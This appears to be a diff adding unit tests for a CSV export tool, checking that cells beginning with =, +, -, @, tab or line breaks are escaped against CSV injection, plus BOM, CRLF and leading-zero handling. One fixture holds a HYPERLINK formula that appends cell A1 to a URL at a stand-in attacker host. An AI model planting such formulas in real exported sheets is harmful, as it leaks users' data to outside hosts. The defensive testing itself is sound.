@@ -1,0 +1,136 @@
+import { readFileSync } from 'node:fs';
+import * as path from 'node:path';
+import fc from 'fast-check';
+import type { Cell } from '../../../shared';
+import { readCsv } from '../../../cli/io/read-csv';
+import { csvOf, FORMULA_TRIGGER, lossyInCsv, unparseCells, writeCsv } from '../../../cli/io/write-csv';
+import { EMPTY, gridOf, num, planFor, tempDir, text } from '../helpers';
+
+/** The CSV text of one cell in a one-row table, without BOM and line end. */
+const field = (cell: Cell) => unparseCells([[cell]]).slice(1, -2);
+
+describe('CSV formula neutralisation (OWASP CSV injection; PITFALLS C1)', () => {
+  it.each<[string, Cell, string]>([
+    ['=1+1', text('=1+1'), `"'=1+1"`],
+    ['a trigger then a line break (papaparse default misses it)', text('=1+1\nnote'), `"'=1+1\nnote"`],
+    ['a leading LF (papaparse default misses it)', text('\n=1+1'), `"'\n=1+1"`],
+    ['a leading CR', text('\r=1+1'), `"'\r=1+1"`],
+    ['@SUM(A1)', text('@SUM(A1)'), `"'@SUM(A1)"`],
+    ['a leading TAB', text('\t=1'), `"'\t=1"`],
+    ['an international phone', text('+86 138 0013 8000'), `"'+86 138 0013 8000"`],
+    ['a minus as text', text('-5'), `"'-5"`],
+    ['a HYPERLINK that could leak data', text('=HYPERLINK("http://evil.example/?"&A1,"点击")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`],
+    ['-5 as a number is a value, not a formula', num(-5), '-5'],
+    ['an amount', num(12800.5), '12800.5'],
+    ['a trigger later in the text', text('safe=safe'), 'safe=safe'],
+    ['a full-width equals sign (no spreadsheet evaluates it)', text('＝1+1'), '＝1+1'],
+    ['Chinese text', text('张伟'), '张伟'],
+    ['an empty cell', EMPTY, ''],
+    ['a comma needs quotes (RFC 4180)', text('北京, 海淀'), '"北京, 海淀"'],
+    ['a quote is doubled (RFC 4180)', text('他说"好"'), '"他说""好"""'],
+  ])('%s', (_, cell, expected) => {
+    expect(field(cell)).toBe(expected);
+  });
+
+  it('escapes every trigger value in a column, not every other one (no RegExp lastIndex carry-over)', () => {
+    expect(FORMULA_TRIGGER.flags).not.toContain('g');
+    const csv = unparseCells([[text('=1')], [text('=2')], [text('=3')]]);
+    expect(csv).toBe(`\uFEFF"'=1"\r\n"'=2"\r\n"'=3"\r\n`);
+  });
+
+  it('never lets a string start with a trigger unquoted or unescaped', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ maxLength: 12 }), { minLength: 1, maxLength: 5 }), (values) => {
+        const csv = unparseCells([values.map(text)]);
+        const parsed = readCsv(new TextEncoder().encode(csv), 'x.csv').cells[0] ?? [];
+        parsed.forEach((cell) => {
+          if (cell.kind === 'text') expect(/^[=+\-@\t\r\n]/.test(cell.value)).toBe(false);
+        });
+      }),
+      { seed: 7, numRuns: 300 },
+    );
+  });
+});
+
+describe('CSV file layout (PITFALLS C2)', () => {
+  it('starts with a UTF-8 BOM and ends lines with CRLF', () => {
+    const csv = unparseCells([[text('姓名'), text('手机')], [text('张伟'), text('138 1234 5678')]]);
+    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    expect(csv).toBe('\uFEFF姓名,手机\r\n张伟,138 1234 5678\r\n');
+  });
+
+  it('pads ragged rows to a rectangle and keeps line breaks inside quotes', () => {
+    expect(unparseCells([[text('客户名单')], [text('地址'), text('备注')], [text('北京市\n海淀区')]])).toBe(
+      '\uFEFF客户名单,\r\n地址,备注\r\n"北京市\n海淀区",\r\n',
+    );
+  });
+
+  it('writes dates as ISO, booleans and errors as the sheet shows them', () => {
+    expect(unparseCells([[{ kind: 'date', value: '2024-03-05' }, { kind: 'boolean', value: true }, { kind: 'error', value: '#N/A' }]]))
+      .toBe('\uFEFF2024-03-05,TRUE,#N/A\r\n');
+  });
+});
+
+describe('csvOf: the cleaned sheet', () => {
+  const grid = gridOf([
+    ['2024 客户名单', '', ''],
+    ['姓名', '手机', '备注'],
+    ['张伟', '13812345678', '=HYPERLINK("x")'],
+    ['李娜', '+86 139 1234 5678', ''],
+  ]);
+  const plan = planFor(grid, {
+    headerRow: 2,
+    fields: ['name', 'mobile', 'notes'],
+    edits: [
+      { sheetRow: 3, col: 1, field: 'mobile', before: text('13812345678'), after: text('138 1234 5678'), reason: 'fix.generic' },
+      { sheetRow: 4, col: 1, field: 'mobile', before: text('+86 139 1234 5678'), after: text('139 1234 5678'), reason: 'fix.generic' },
+    ],
+    addedColumns: [{ id: 'issues', header: '整理问题', write: 'text', values: [EMPTY, text('-手机号待核实')] }],
+  });
+
+  it('applies the edits, appends the added column under the header row and keeps the title row', () => {
+    expect(csvOf(grid, plan)).toBe(
+      '\uFEFF' +
+      '2024 客户名单,,,\r\n' +
+      '姓名,手机,备注,整理问题\r\n' +
+      `张伟,138 1234 5678,"'=HYPERLINK(""x"")",\r\n` +
+      `李娜,139 1234 5678,,"'-手机号待核实"\r\n`,
+    );
+  });
+
+  it('reads back as the same sheet (apart from the neutralised values) and is written to disk', async () => {
+    const { dir, cleanup } = tempDir();
+    try {
+      const file = path.join(dir, 'out.csv');
+      await writeCsv(file, grid, plan);
+      const back = readCsv(readFileSync(file), 'out.csv');
+      expect(back.cells[2]).toEqual([text('张伟'), text('138 1234 5678'), text(`'=HYPERLINK("x")`), EMPTY]);
+      expect(back.cells).toHaveLength(4);
+    } finally {
+      cleanup();
+    }
+  });
+});
+
+describe('lossyInCsv: values a spreadsheet would change on opening the CSV (PITFALLS A5)', () => {
+  const grid = gridOf([
+    ['客户编号', '身份证号', '手机', '金额'],
+    ['00123', '110101199003071234', '13812345678', '0012'],
+    ['A-001', '11010119900307123X', '0755-88880000', '05'],
+  ]);
+  const plan = planFor(grid, { writes: ['text', 'text', 'text', 'number'] });
+
+  it('counts leading-zero numbers and over-15-digit numbers in text columns only', () => {
+    // 00123 and the all-digit ID count; an ID ending in X, a phone with a dash and number columns do not.
+    expect(lossyInCsv(grid, plan)).toBe(2);
+  });
+
+  it('is what writeCsv returns', async () => {
+    const { dir, cleanup } = tempDir();
+    try {
+      expect(await writeCsv(path.join(dir, 'x.csv'), grid, plan)).toBe(2);
+    } finally {
+      cleanup();
+    }
+  });
+});
